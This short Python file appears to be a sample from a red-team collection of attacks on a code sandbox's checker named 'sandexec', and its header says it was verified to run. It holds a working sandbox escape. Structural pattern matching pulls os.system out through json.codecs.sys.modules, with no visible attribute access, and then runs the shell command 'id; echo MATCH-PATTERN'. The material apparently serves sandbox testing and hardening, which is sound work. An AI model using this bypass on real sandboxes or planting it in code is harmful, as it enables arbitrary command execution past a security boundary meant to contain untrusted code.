# Source: black-box attack on sandexec's check, 2026-11-26; family: match class/mapping patterns as getattr/subscript by constant name
# Verified to run in sandexec-python:bookworm when unchecked.
import json
match json:
    case object(codecs=object(sys=object(modules={"os": object(system=run)}))):
        run("id; echo MATCH-PATTERN")
